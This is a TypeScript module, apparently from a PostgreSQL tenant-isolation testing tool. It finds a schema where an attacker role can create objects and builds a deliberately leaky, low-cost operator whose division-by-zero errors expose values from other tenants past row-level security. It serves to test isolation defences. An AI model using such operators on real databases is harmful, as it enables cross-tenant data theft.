import { quoteIdentifier, quoteLiteral } from "../../../postgres/sql/quote";
import type { AttackContext } from "../../context";

/** A place where a role may create. */
export interface Workshop {
  /** What makes it, where the role makes it itself. */
  readonly create: readonly string[];
  /** The schema's name, quoted. */
  readonly name: string;
}

/** Where the role may create a function and an operator: a schema that is there, or one of its own; or nowhere. */
export async function whereToCreate(context: AttackContext): Promise<Workshop | undefined> {
  const { role } = context.attacker;
  const [row] = await context.ask<{ schema: string | null; own: boolean }>(
    `SELECT (SELECT n.nspname FROM pg_catalog.pg_namespace n
              WHERE n.nspname !~ '^pg_' AND has_schema_privilege($1, n.oid, 'USAGE')
                AND has_schema_privilege($1, n.oid, 'CREATE') ORDER BY n.nspname LIMIT 1) AS schema,
            has_database_privilege($1, current_database(), 'CREATE') AS own`,
    [role],
  );
  if (row === undefined) return undefined;
  if (row.schema !== null) return { create: [], name: quoteIdentifier(row.schema) };
  const name = "palisade_proof";
  return row.own ? { create: [`CREATE SCHEMA ${name}`], name } : undefined;
}

/**
 * The role's own statements for an operator that fails with division by zero on every value but its own tenant's: it
 * stands for one that tells what it is shown. Cheap, so that the planner likes to evaluate it first.
 */
export function leakyOperator(
  schema: string,
  operator: string,
  type: string,
  own: string,
  estimator?: string,
): string[] {
  const body = `BEGIN RETURN 1 / (CASE WHEN $1::text OPERATOR(pg_catalog.=) ${quoteLiteral(own)} THEN 1 ELSE 0 END) OPERATOR(pg_catalog.=) 1; END`;
  return [
    `CREATE FUNCTION ${schema}.palisade_leak(${type}, ${type}) RETURNS boolean LANGUAGE plpgsql COST 0.1 AS ${quoteLiteral(body)}`,
    `CREATE OPERATOR ${schema}.${operator} (LEFTARG = ${type}, RIGHTARG = ${type}, FUNCTION = ${schema}.palisade_leak${estimator === undefined ? "" : `, RESTRICT = ${estimator}`})`,
  ];
}
